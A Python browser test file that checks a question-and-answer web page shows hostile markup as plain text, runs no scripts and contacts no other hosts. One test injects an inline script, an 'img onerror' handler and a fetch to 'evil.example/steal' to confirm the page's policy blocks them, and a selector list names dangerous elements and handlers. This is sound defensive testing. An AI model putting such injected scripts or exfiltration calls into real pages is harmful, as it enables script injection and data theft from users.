"""Hostile markup in everything that a page shows, in a real browser: nothing runs, and nobody else is asked.

One page shows many at once.
"""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from fastapi import FastAPI
from hostile_pages import WATCH, Hostile, payloads_of
from page_turns import library_of
from playwright.sync_api import Browser, Page, expect
from servers import browser, come_to, running

from page import create_page, mount
from web import Rules

pytestmark = pytest.mark.browser
__all__ = ["browser"]


@pytest.fixture(scope="module")
def payloads(evaluation_data: Path) -> list[str]:
    return payloads_of(evaluation_data)


@pytest.fixture(scope="module")
def address(payloads: list[str]) -> Iterator[str]:
    """A running page whose articles and answers are hostile."""
    hostile = Hostile(payloads)
    app = mount(
        FastAPI(),
        create_page(library_of(hostile.explain, hostile.learn, hostile.articles)),
        Rules(calls_per_minute=10_000),
    )
    with running(app) as served_at:
        yield served_at


@pytest.fixture(scope="module")
def page(browser: Browser, address: str) -> Iterator[Page]:
    """The page, opened once; `page.hosts` collects whom the browser asks."""
    opened = browser.new_page()
    opened.hosts = set()  # type: ignore[attr-defined]
    opened.on("request", lambda request: opened.hosts.add(urlsplit(request.url).netloc))  # type: ignore[attr-defined]
    opened.add_init_script(WATCH)
    come_to(opened, address)
    yield opened
    opened.close()


def ran(page: Page) -> list[str]:
    """What ran, or tried to, and was stopped; every element is touched first."""
    page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
    page.evaluate(
        "document.querySelectorAll('#main *').forEach((each) => each.dispatchEvent(new MouseEvent('mouseover')))"
    )
    page.wait_for_timeout(300)
    return list(page.evaluate("window.ran"))


def foreign(page: Page) -> list[str]:
    """Elements and addresses that no page of ours has."""
    found = page.evaluate(
        """[...document.querySelectorAll(`#main script, #main iframe, #main object, #main form, #main base, #main style,
        #main img, #main video, #main math, #main [onerror], #main [onload], #main [onmouseover], #main [ontoggle],
        #main [onclick], #main [srcdoc], #main link, #main meta`)].map((each) => each.outerHTML.slice(0, 120))"""
    )
    links = page.evaluate("[...document.querySelectorAll('#main a')].map((each) => each.getAttribute('href') || '')")
    return [*found, *(link for link in links if not re.match(r"#|https?://", link))]


def test_the_first_screen_and_its_list_of_articles_run_nothing(page: Page, address: str, payloads: list[str]):
    expect(page.locator("#articles")).to_contain_text(payloads[0])

    assert ran(page) == []
    assert foreign(page) == []
    assert page.hosts == {urlsplit(address).netloc}  # type: ignore[attr-defined]


def test_an_answer_full_of_markup_runs_nothing_and_shows_it_as_text(page: Page, address: str, payloads: list[str]):
    page.fill("#question textarea", payloads[5])
    page.keyboard.press("Enter")
    expect(page.locator("#current .answer:not([data-status=running])")).to_be_visible()

    assert page.locator("#current .question").inner_text().endswith(payloads[5])
    assert page.locator("#current .sentence").count() >= len(payloads)
    assert ran(page) == []
    assert foreign(page) == []
    assert page.hosts == {urlsplit(address).netloc}  # type: ignore[attr-defined]


def test_every_payload_as_a_question_runs_nothing(page: Page, address: str, payloads: list[str]):
    for payload in payloads:
        page.fill("#question textarea", payload)
        page.keyboard.press("Enter")
        expect(page.locator("#question textarea")).to_have_value("")

    expect(page.locator("#current .answer:not([data-status=running])")).to_be_visible()
    assert ran(page) == []
    assert foreign(page) == []
    assert page.hosts == {urlsplit(address).netloc}  # type: ignore[attr-defined]


def test_a_script_that_comes_in_all_the_same_is_stopped_by_the_policy(page: Page):
    page.evaluate(
        """() => {
          const script = document.createElement("script"); script.textContent = "window.ran.push('inline')";
          const image = document.createElement("div");
          image.innerHTML = "<img src=x onerror=\\"window.ran.push('handler')\\">";
          document.body.append(script, image);
          fetch("https://evil.example/steal").catch(() => {});
        }"""
    )
    page.wait_for_function("window.ran.length >= 3")
    page.wait_for_timeout(500)

    seen = page.evaluate("window.ran")
    assert sorted(seen) == ["blocked https://evil.example/steal", "blocked inline", "blocked inline"]


def test_the_browser_keeps_nothing_of_what_was_asked(page: Page, payloads: list[str]):
    kept = page.evaluate("JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage}) + document.cookie")

    assert not [payload for payload in payloads if json.dumps(payload)[1:-1] in kept]
    assert page.context.cookies() == []
    assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
